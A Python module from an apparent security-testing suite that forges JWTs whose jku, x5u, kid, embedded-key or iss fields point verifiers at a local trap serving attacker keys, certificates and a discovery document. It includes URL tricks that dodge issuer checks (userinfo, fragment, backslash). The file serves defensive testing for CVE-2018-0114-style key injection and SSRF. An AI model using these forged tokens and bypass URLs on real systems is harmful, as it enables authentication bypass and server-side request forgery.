"""Tokens that say where their key is to be fetched.

RFC 7515, sections 4.1.2 and 4.1.5; RFC 8725, section 3.10. CVE-2018-0114 and server-side request
forgery. ASVS 5.0 V9.1.3. The trap that they point to notices a fetch even if the token is then refused.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from functools import partial
from urllib.parse import urlsplit

from pytest_devsecops.identity.tokens.embedded_key import own_algorithm, own_token
from pytest_devsecops.identity.tokens.keys import attacker_certificate, attacker_key, modules, public_jwk, signer
from pytest_devsecops.identity.tokens.model import Attack, AttackClass, Knowledge, NotApplicableError, Trap, jws

_REFS = ("RFC 8725 3.10", "RFC 7515 4.1.2", "asvs:v5.0.0-9.1.3")
_KID = "attacker"


def _trap(known: Knowledge) -> Trap:
    if known.trap is None:
        raise NotApplicableError("the application is beyond this machine and could not reach a trap here")
    algorithm = own_algorithm(known)
    jwk = {**public_jwk(attacker_key(algorithm).public_key()), "kid": _KID, "use": "sig", "alg": algorithm}
    keys = [jwk, {**jwk, "kid": known.sample.header.get("kid", _KID)}]
    known.trap.serve("/jwks.json", json.dumps({"keys": keys}).encode())
    known.trap.serve("/.well-known/jwks.json", json.dumps({"keys": keys}).encode())
    known.trap.serve("/key.json", json.dumps(jwk).encode())
    return known.trap


def _issuer_host(known: Knowledge) -> str:
    issuer = known.sample.claims.get("iss")
    return (urlsplit(issuer).hostname if isinstance(issuer, str) else "") or "issuer.example"


#: How the address is written, so that a check for the issuer's own passes: trap and issuer -> URL.
_ADDRESSES: dict[str, Callable[[Trap, str], str]] = {
    "plain": lambda trap, _: f"{trap.url()}/jwks.json",
    "TLS": lambda trap, _: f"{trap.url('https')}/jwks.json",
    "issuer as user": lambda trap, host: f"http://{host}@{trap.url().removeprefix('http://')}/jwks.json",
    "issuer as user, TLS": lambda trap, host: f"https://{host}@{trap.url().removeprefix('http://')}/jwks.json",
    "issuer in fragment": lambda trap, host: f"{trap.url()}/jwks.json#https://{host}/",
    "issuer in query": lambda trap, host: f"{trap.url()}/jwks.json?https://{host}/",
    "backslash": lambda trap, host: f"{trap.url()}\\@{host}/jwks.json",
    "localhost": lambda trap, _: f"{trap.url().replace('127.0.0.1', 'localhost')}/jwks.json",
}


def _jku(address: str, known: Knowledge) -> str:
    trap, algorithm = _trap(known), own_algorithm(known)
    url = _ADDRESSES[address](trap, _issuer_host(known))
    return own_token(known, known.header(alg=algorithm, jku=url, kid=_KID), algorithm)


def _jku_same_kid(known: Knowledge) -> str:
    trap, algorithm = _trap(known), own_algorithm(known)
    return own_token(known, known.header(alg=algorithm, jku=f"{trap.url()}/jwks.json"), algorithm)


def _jku_list(known: Knowledge) -> str:
    trap, algorithm = _trap(known), own_algorithm(known)
    return own_token(known, known.header(alg=algorithm, jku=[f"{trap.url()}/jwks.json"]), algorithm)


def _pem(trap: Trap, algorithm: str) -> str:
    from cryptography import x509

    der = attacker_certificate(algorithm)
    pem = x509.load_der_x509_certificate(der).public_bytes(modules()[3].Encoding.PEM)
    trap.serve("/cert.pem", pem, "application/pem-certificate-chain")
    trap.serve("/cert.der", der, "application/pkix-cert")
    return trap.url()


def _x5u(path: str, known: Knowledge) -> str:
    algorithm = own_algorithm(known)
    base = _pem(_trap(known), algorithm)
    header = {key: value for key, value in known.header(alg=algorithm, x5u=base + path).items() if key != "kid"}
    return own_token(known, header, algorithm)


def _both(known: Knowledge) -> str:
    trap, algorithm = _trap(known), own_algorithm(known)
    header = known.header(
        alg=algorithm, kid=_KID, jku=f"{trap.url()}/jwks.json", x5u=_pem(trap, algorithm) + "/cert.pem"
    )
    return own_token(known, header, algorithm)


def _discovered(known: Knowledge) -> str:
    """The claim ``iss`` names the attacker's own provider, whose discovery document is in order."""
    trap, algorithm = _trap(known), own_algorithm(known)
    document = {"issuer": trap.url(), "jwks_uri": f"{trap.url()}/jwks.json"}
    for well_known in ("/.well-known/openid-configuration", "/.well-known/oauth-authorization-server"):
        trap.serve(well_known, json.dumps(document).encode())
    claims = {**known.forged_claims, "iss": trap.url()}
    return jws(known.header(alg=algorithm, kid=_KID), claims, signer(attacker_key(algorithm), algorithm))


def _kid_url(known: Knowledge) -> str:
    trap, algorithm = _trap(known), own_algorithm(known)
    return own_token(known, known.header(alg=algorithm, kid=f"{trap.url()}/key.json"), algorithm)


def _jwk_with_url(known: Knowledge) -> str:
    trap, algorithm = _trap(known), own_algorithm(known)
    jwk = {**public_jwk(attacker_key(algorithm).public_key()), "x5u": _pem(trap, algorithm) + "/cert.pem"}
    return own_token(known, known.header(alg=algorithm, jwk=jwk), algorithm)


def _attacks() -> Iterator[Attack]:
    for address in _ADDRESSES:
        title = f"jku names the attacker's key set (address: {address})"
        yield Attack(f"remote-key/jku {address}", title, _REFS, partial(_jku, address))
    yield Attack(
        "remote-key/jku, issuer's kid", "jku has the attacker's key under the issuer's kid", _REFS, _jku_same_kid
    )
    yield Attack("remote-key/jku list", "jku is a list of addresses", _REFS, _jku_list)
    for kind, path in (("PEM", "/cert.pem"), ("DER", "/cert.der")):
        title = f"x5u names the attacker's certificate ({kind})"
        yield Attack(f"remote-key/x5u {kind}", title, ("RFC 7515 4.1.5", *_REFS), partial(_x5u, path))
    yield Attack("remote-key/jku and x5u", "both jku and x5u name the attacker's key", _REFS, _both)
    yield Attack("remote-key/jwk with x5u", "an embedded key names the attacker's certificate", _REFS, _jwk_with_url)
    yield Attack("remote-key/kid", "kid is the address of the attacker's key", _REFS, _kid_url)
    refs = ("RFC 8725 3.8", *_REFS)
    title = "iss is the attacker's own provider, whose discovery document is in order"
    yield Attack("remote-key/issuer", title, refs, _discovered)


REMOTE_KEY = AttackClass("remote-key", "tokens that say where their key is", tuple(_attacks()))
